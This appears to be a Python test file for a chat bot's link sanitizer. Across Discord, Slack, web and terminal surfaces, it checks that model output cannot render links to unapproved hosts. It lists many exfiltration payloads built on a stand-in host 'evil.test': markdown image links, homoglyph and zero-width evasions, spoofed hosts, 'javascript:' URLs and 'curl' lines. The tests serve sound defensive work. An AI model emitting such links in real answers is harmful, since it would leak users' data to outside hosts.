"""Shapes by which a model could be made to write an address, at what each surface would link."""

from __future__ import annotations

from functools import partial

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from adapters.discord.render import paginate
from adapters.slack.render import (
    PostContent,
    safe_markdown,
    settled_length,
    split_answer,
)
from adapters.web.page.render import render
from core.base.growing_markdown import GrowingMarkdown
from core.base.splitting import split_text
from core.base.text import clean_text
from core.base.trust import Trust, defang, find_addresses
from tests.fakes import linkers

TRUST = Trust(frozenset({"example.com"}), frozenset({"https://mine.test/a?b=c"}))
EVIL = "https://evil.test/?q=secret"
SHAPES = (
    # plain addresses
    EVIL, f"({EVIL})", f"a:{EVIL}", f"**{EVIL}**", f"_{EVIL}_", EVIL.upper(), f"x{EVIL}",
    "http://evil.test", "https:\\\\evil.test\\?q", "//evil.test/?q=secret", "evil.test",
    "evil.test/?q=secret", "www.evil.test", "..evil.test/x", "evil.test:8080/x",
    "https://1.2.3.4", "https://2130706433/secret", "https://[::1]/secret", "me@evil.test",
    "mailto:me@evil.test?body=secret", "tel:+551199", "discord://x/secret", "slack://x?secret",
    "discord.gg/secret", "https://discord.gg/secret", "ftp://evil.test/secret",
    "https://xn--e1afmkfd.test/secret",
    "https://пример.test/secret", "пример.рф/secret", "https://evil。test/secret", "evil。test",
    "https://ev\u200bil.test/secret", "ev\u200bil.test", "ht\u2060tps://evil.test",
    "evil\u00ad.test",
    f"\\{EVIL}", f"\\\\{EVIL}", f"\\[x]({EVIL})", f"\\<{EVIL}>", f"\\![x]({EVIL})",
    f"[x]\\({EVIL})", f"[x]&#40;{EVIL})", f"[x]&#58; {EVIL}",
    "https\\&#58;//evil.test", "https&amp;#58;//evil.test", "<!https://mine.test/a?b=c>secret",
    'https://mine.test/a?b=c">`secret`', f"evil.test/x<{EVIL}>",
    # hosts that only look like ours
    "https://example.com@evil.test/", "https://example.com:x@evil.test",
    "https://evil.test\\@example.com",
    "https://evil.test\\.example.com/", "https://example.com.evil.test", "https://notexample.com",
    "https://example.com`.evil.test/secret`", "https://example.com'.evil.test", "https:/evil.test",
    "https:evil.test", "https:///evil.test", "https://example.com/(https://evil.test/secret)",
    "https://example.com|evil.test", "https://mine.test/a?b=cSECRET", "https://mine.test/a",
    "https://mine.test/a?b=c[secret", "https://mine.test/a?b=c]secret",
    "https://mine.test/a?b=c](https://example.com/secret)", "https://mine.test/a?b=c*_*__*",
    "[https://mine.test/a?b=c]secret", "https://mine.test/a?b=c`secret`",
    # Markdown's links
    f"[a]({EVIL})", f"[a](<{EVIL}>)", f"[a]( {EVIL} 'title')", f"![a]({EVIL})", f"![]({EVIL})",
    f"[![a]({EVIL})]({EVIL})", f"[![a](/files/x)]({EVIL})", f"[a [b] c]({EVIL})",
    f"[a\nb]({EVIL})", f"[a](\n{EVIL})", f"[`a`]({EVIL})", f"[a\\]]({EVIL})",
    f"[{EVIL}](https://example.com)", "[a](//evil.test/secret)", "[a](\\\\evil.test)",
    "[a](&#104;ttps://evil.test)", "[a](https&colon;//evil.test)", "[a](https\\://evil.test)",
    "[a](evil.test)", "[a](mailto:me@evil.test)", f"[a]({EVIL}(b(c)))", f"[a][b]\n\n[b]: {EVIL}",
    f"[a]\n\n[a]: <{EVIL}> 'title'", f"[a]\n\n[a]:\n{EVIL}", f"> [a]\n>\n> [a]: {EVIL}",
    f"- [a]\n\n  [a]: {EVIL}", f"[a]\n\n[a]: {EVIL.replace(':', '&colon;')}",
    f"[a]\n\n> - [a]: {EVIL}", f"[a\nb]\n\n[a\nb]: {EVIL}", f"<{EVIL}>", f"<{EVIL}|a>",
    f"<{EVIL}|a b>",
    "<me@evil.test>", "<mailto:me@evil.test>", "<tel:+55>", "<HTTPS://evil.test>", "<evil.test>",
    f"| a | b |\n| - | - |\n| {EVIL} | [x]({EVIL}) |", f"# [a]({EVIL})", f"> {EVIL}", f"1. {EVIL}",
    f"<a href=\"{EVIL}\">a</a>", f"<img src={EVIL}>", "https&#58;//evil.test", "evil&#46;test",
    "evil&period;test/secret", "https\\://evil.test", "evil\\.test",
    # what looks like code, and is not everywhere
    f"`a\n\nb` {EVIL} `c`", f"` {EVIL}", f"{EVIL} `", f"`a` ` {EVIL}", f"`` ` {EVIL} ` ``",
    f"\\` {EVIL} \\`", f"`\n{EVIL}\n`", f"```\na\n``` {EVIL}\n", f"```\n{EVIL}",
    f"~~~\n{EVIL}\n~~~",
    f"    {EVIL}", f"> ```\n{EVIL}\n```", f"```\na\n    ```\n\n[x]({EVIL})\n\n```\n{EVIL}\n```",
    f"````\n```\n{EVIL}\n```\n````", f"- ```\n{EVIL}\n  ```", f"[`](x) {EVIL} `",
    f"<a:`{EVIL}`>", f"| `a | {EVIL}` |\n| - | - |\n| `a | {EVIL}` | x |",
    f"```a`b\n{EVIL}\n```", f"https://`{EVIL[8:]}`", f"`x`{EVIL}`y`", f"``` {EVIL} ```",
    f"``` a\n{EVIL}\n```b\n{EVIL}", f"a ` b\n\n`{EVIL}`", f"\t`a\n\t{EVIL}`",
)  # fmt: skip
CAUTIOUS = (  # nothing that we know of links these
    "1.2.3.4/secret",
    "javascript:alert(1)",
    "data:text/html,secret",
    "ev**il**.test/secret",
    f"`a``{EVIL}`",
    f"*`* {EVIL} *`*",
    f"<b>`</b> {EVIL} `",
    f"`{EVIL}\\`",
    f"a ` b\n\n`{EVIL}",
)
AROUND = ["{}", "Well, {} now.", "a `b` {}", "> {}", "- x\n  {}", "| {} |"]
FINE = (
    "https://example.com/a_(b)",
    "[a](https://docs.example.com/x 'title')",
    "<https://example.com>",
    "see https://example.com/a.",
    "https://mine.test/a?b=c",
    "[a](https://mine.test/a?b=c)",
    "![plot](/files/abc)",
    "[a][1]\n\n[1]: https://example.com/x",
)
CODE = (
    f"`curl {EVIL}`",
    f"```\ncurl {EVIL}\n```",
    f"```python\nget('{EVIL}')\n```\n\nand `{EVIL}`.",
    f"1. Run:\n\n   ```sh\n   curl {EVIL}\n   ```\n",
    f"Use `{EVIL}` or `[a]` and `x.y`.",
)


async def find_links(text: str) -> list[str]:
    """Every link to an address that nobody allowed, on any surface, however the text gets there."""
    message = TRUST.split_sanitized(text, lambda whole: (whole,))[0]
    matches = [("page", link) for link in linkers.page(await render(message))]
    matches += [("piece", link) for link in linkers.piece(message)]
    for part in TRUST.split_sanitized(text, lambda whole: split_answer(whole))[1]:
        for body in (PostContent(part).build_whole(), PostContent(part).build_plain()):
            matches += [
                ("slack", link) for link in linkers.slack_post(body["text"], body["blocks"])
            ]
    for part in TRUST.split_sanitized(text, lambda whole: paginate(whole).parts)[1]:
        matches += [("discord", link) for link in linkers.discord(part)]
    plain = Trust(TRUST.hosts, TRUST.written, is_code_inert=False).sanitize(text)
    matches += [("terminal", link) for link in linkers.terminal(plain)]
    return [f"{where}: {link}" for where, link in matches if not fine(link)]


def fine(link: str) -> bool:
    bare = link.rstrip(".,;:!?*_~)'\"`|>]")
    link = bare if len(link) - len(bare) < 5 else link
    return TRUST.allows(link) or link.startswith(("#", "/files/")) or TRUST.allows(link + ")")


@pytest.mark.parametrize("around", AROUND)
async def test_no_surface_links_what_nobody_allowed(around: str) -> None:
    shapes = [around.format(shape) for shape in (*SHAPES, *CAUTIOUS)]
    matches = {shape: await find_links(clean_text(shape)) for shape in shapes}
    assert {shape: links for shape, links in matches.items() if links} == {}


async def test_every_shape_is_linked_where_nothing_checks_it() -> None:
    """Else the shapes prove nothing."""

    async def is_linked(text: str) -> bool:
        parts = paginate(text).parts
        return bool(
            linkers.piece(text)
            or linkers.page(await render(text))
            or [link for part in parts for link in linkers.discord(part)]
        )

    assert [shape for shape in SHAPES if not await is_linked(clean_text(shape))] == []


def test_what_is_allowed_and_what_is_code_stays_as_it_is() -> None:
    assert [text for text in (*FINE, *CODE) if TRUST.sanitize(text) != text] == []


@pytest.mark.slow
def test_growing_text_is_checked_in_every_piece() -> None:
    """Also in what Slack's streams hold back, and as Discord gets it."""
    matches = {shape: _find_links_while_it_grows(shape) for shape in (*SHAPES, *CODE)}
    assert {shape: links for shape, links in matches.items() if links} == {}


def _find_links_while_it_grows(shape: str) -> list[str]:
    text = clean_text(f"First.\n\nWell, {shape} now, and `code` too.\n\nLast.")
    growing, links, before = GrowingMarkdown(), list[str](), ""
    for end in range(len("First."), len(text) + 1):
        view = growing.render(text[:end], TRUST)
        if view == before:
            continue  # it has been checked
        before = view
        (*_, part) = TRUST.split_sanitized(view, lambda whole: split_answer(whole))[1] or ("",)
        links += linkers.piece(view)
        links += linkers.slack(safe_markdown(part[: settled_length(part)]))
        for part in TRUST.split_sanitized(view, lambda whole: paginate(whole).parts)[1]:
            links += linkers.discord(part)
    return [link for link in links if not fine(link)]


def test_growing_text_mostly_goes_on_from_what_was_shown() -> None:
    paragraphs = [f"See {EVIL} and https://example.com/x, {n}." for n in range(5)]
    text = clean_text("\n\n".join([*paragraphs, *CODE]))
    growing, texts = GrowingMarkdown(), ""
    for end in range(1, len(text) + 1):
        view = growing.render(text[:end], TRUST)
        assert view.startswith(texts)
        texts = view
    assert len(texts) > len(text) * 0.8


LONG_TEXTS = (
    "`" + "a " * 60 + EVIL + " b" * 60 + "`", f"`{'a. ' * 20}{EVIL} {'b. ' * 20}`",
    "https://example.com/" + "x" * 71 + "/evil.test/secret" * 9, f"`{EVIL}`," * 20,
    f"```\n{'x' * 90} {EVIL}\n```\n" * 3,
)  # fmt: skip


def test_a_cut_brings_nothing_to_life() -> None:
    matches = [
        (limit, text, link)
        for limit in (40, 60, 100)
        for text in LONG_TEXTS
        for part in TRUST.split_sanitized(text, partial(split_text, limit=limit))[1]
        for link in linkers.piece(part)
    ]
    assert [each for each in matches if not fine(each[2])] == []


PIECES = st.sampled_from(
    ["[", "]", "(", ")", "!", "<", ">", "`", "``", "```\n", "~~~\n", "\n", "\n\n", " ", "a", "[x]",
     "[1]: ", "\\", '"', EVIL, "http://example.com/b", "www.evil.test", "evil.test", "*", "_", "| ",
     "|-|\n", "> ", "- ", "    ", "&#58;", "@", ":", "//", ".", "https:"]
)  # fmt: skip


@settings(deadline=None)
@given(st.lists(PIECES, max_size=16).map("".join))
async def test_no_mixture_of_link_pieces_becomes_a_link(text: str) -> None:
    assert await find_links(clean_text(text)) == []


@settings(deadline=None)
@given(st.lists(PIECES, max_size=16).map("".join))
@example("[1]: http://example.com/b<")
def test_checking_twice_changes_nothing_more(text: str) -> None:
    message = TRUST.sanitize(clean_text(text))
    assert TRUST.sanitize(message) == message


def test_an_address_that_was_written_whole() -> None:
    text = "see (https://mine.test/a?b=c), [x](https://also.test/1) and <https://third.test>."
    lines = {"https://mine.test/a?b=c", "https://also.test/1", "https://third.test"}
    assert find_addresses(text) >= lines
    assert not any(link in find_addresses(text) for link in ("https://mine.test", "third.test"))


def test_broken_addresses_can_be_read() -> None:
    assert defang(f"see {EVIL} or me@evil.test.") == (
        "see https[:]//evil[.]test/?q=secret or me[@]evil[.]test."
    )
